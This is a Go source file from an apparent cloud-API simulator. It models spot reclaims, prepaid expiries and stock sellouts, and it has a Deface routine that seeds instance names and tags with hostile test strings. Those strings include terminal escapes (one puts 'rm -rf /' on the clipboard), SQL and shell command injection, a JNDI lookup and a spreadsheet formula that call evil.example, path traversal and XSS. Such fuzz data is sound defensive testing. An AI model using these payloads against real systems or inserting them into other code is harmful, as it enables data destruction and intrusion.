package world

import (
	"cmp"
	"slices"
	"strings"
	"time"

	"ecsdeck/ecsapi/ecssim/hash"
)

// How many instances a storm and a wave hit.
const (
	stormReclaims = 12
	waveExpiries  = 40
)

// victim is an instance a story may hit, and its place in the queue.
type victim struct {
	region *Region
	ID     string
	turn   uint64
}

// victims are up to n instances of the regions that fit, in an order that
// follows from the seed and the salt.
func victims(among []*Region, now time.Time, n int, salt uint64, fits Match) []victim {
	var all []victim
	for _, r := range among {
		r.Lock(now)
		for _, i := range r.List {
			if fits(i) {
				all = append(all, victim{r, i.ID, hash.Mix(i.Hash, salt)})
			}
		}
		r.Unlock()
	}
	slices.SortFunc(all, func(a, b victim) int { return cmp.Compare(a.turn, b.turn) })
	return all[:min(n, len(all))]
}

// hit does something to a victim that still exists.
func (v victim) hit(do func(i *Instance)) {
	v.region.mu.Lock()
	defer v.region.mu.Unlock()
	if i := v.region.ByID[v.ID]; i != nil {
		do(i)
		v.region.Plan(i)
	}
}

// Storm takes spot instances back, one in each pace.
func (c *Cloud) Storm(among []*Region, now time.Time, pace time.Duration) {
	running := func(i *Instance) bool {
		return i.Spot != NoSpot && i.Status == Running && i.Lock == "" && !i.Survives
	}
	for n, v := range victims(among, now, stormReclaims, 's', running) {
		v.hit(func(i *Instance) { v.region.Reclaim(i, now.Add(time.Duration(n)*pace)) })
	}
}

// SecondRegion is the second largest region as a fleet is laid out, which is big
// enough to be missed and not the one that is read first.
func (c *Cloud) SecondRegion() *Region {
	var last *Region
	for _, id := range ranking {
		r := c.ByID[id]
		if r != nil && last != nil {
			return r
		}
		last = cmp.Or(r, last)
	}
	return last
}

// Wave lets prepaid instances that nobody renews expire at the next three midnights of UTC+8.
func (c *Cloud) Wave(among []*Region, now time.Time) {
	const day = 24 * time.Hour
	midnight := now.Add(8 * time.Hour).Truncate(day).Add(day - 8*time.Hour)
	paid := func(i *Instance) bool {
		return i.Prepaid && i.Lock == "" && i.Settles.IsZero() && i.Renewal.Status != AutoRenewal
	}
	for n, v := range victims(among, now, waveExpiries, 'w', paid) {
		v.hit(func(i *Instance) { i.Expires = midnight.Add(time.Duration(n%3) * day) })
	}
}

// SellOut lets nothing be in stock in a region until a moment.
func (r *Region) SellOut(until time.Time) {
	r.mu.Lock()
	defer r.Unlock()
	r.short = until
}

// hostile are texts that break programs which trust what a cloud answers.
var hostile = []string{
	"\x1b[2J\x1b[1;1Hcleared",                             // clears the screen
	"\x1b]0;owned\x07title",                               // sets the title
	"\x1b]52;c;cm0gLXJmIC8=\x07clip",                      // fills the clipboard
	"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", // a link
	"\u009b31mC1",                                         // the one-character form of an escape
	"first\nsecond\r\nthird\tfourth\x00fifth",             // control characters
	"overwritten\rby this",
	"abc\b\b\b\x7f\x7fdel",
	"invoice\u202efdp.exe\u2066 isolate", // right to left
	"zero\u200bwidth\u2060and\ufeffmarks\u200d\u200f",
	"Z" + strings.Repeat("\u0334\u0346\u035a", 20) + "algo", // piled up accents
	"👩‍👩‍👧‍👦🏳️‍🌈🇨🇳 家族服务器",                                   // wide, joined, flags
	strings.Repeat("超长名字", 32),                              // as long as a name may be, and twice as wide
	"=HYPERLINK(\"http://evil.example\",\"ok\")",            // a formula in a spreadsheet
	"'; DROP TABLE instances; --",
	"<script>alert(1)</script>&amp;",
	"$(reboot) `reboot` ; rm -rf ~ | sh",
	"%s%n%v {{.}} ${jndi:ldap://evil.example}",
	"../../../../etc/passwd",
	"-rf --yes",
	"comma,quote\",semi;colon",
	" leading and trailing ",
	"ｆｕｌｌ　ｗｉｄｔｈ",
	"null",
	"\ufffd\ufffe\U0010ffff",
}

// Deface gives one instance in ten, at least one, a hostile name, description
// and tags; no two in a row the same.
func (r *Region) Deface(now time.Time) {
	r.Lock(now)
	defer r.Unlock()
	for n, i := range r.List {
		if n > 0 && hash.Mix(i.Hash, 'h')%10 != 0 {
			continue
		}
		text := func(k int) string { return hostile[(n+k)%len(hostile)] }
		i.Name, i.Description = text(0), text(3)
		i.Tags = []Tag{{Key: "env", Value: text(5)}, {Key: text(7), Value: text(11)}, {Key: "team", Value: ""}}
	}
}
